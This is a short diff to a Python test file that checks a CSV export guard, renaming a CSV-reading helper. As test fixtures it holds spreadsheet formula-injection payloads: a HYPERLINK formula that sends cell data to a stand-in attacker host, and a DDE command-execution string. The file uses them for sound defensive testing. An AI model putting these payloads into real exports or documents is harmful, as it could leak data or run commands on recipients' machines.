@@ -17,7 +17,7 @@ from openpyxl import load_workbook
 from kompas.accounts.constants import Rol
 from kompas.audit.models import Actie
 from kompas.audit.services import audit_log_create
-from kompas.core.tabular import FORMULE_BEGIN, csv_writer, read_csv, veilige_cel
+from kompas.core.tabular import FORMULE_BEGIN, csv_writer, lees_csv, veilige_cel
 
 HYPERLINK = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
 CMD = "+cmd|' /C calc'!A0"
@@ -54,7 +54,7 @@ def test_the_guard_quotes_every_formula_start_and_leaves_the_rest():
     csv_writer(buf).writerows([[f, -1] for f in FORMULES])
     assert _gevaarlijk(_csv_cellen(buf.getvalue())) == []
     # and an exported file reads back as it was
-    assert [r["a"] for r in read_csv("a;b\n" + buf.getvalue().split("\r\n", 1)[0] + "\n")] == [HYPERLINK]
+    assert [r.waarden["a"] for r in lees_csv("a;b\n" + buf.getvalue().split("\r\n", 1)[0] + "\n").rijen] == [HYPERLINK]
 
 
 @pytest.mark.django_db
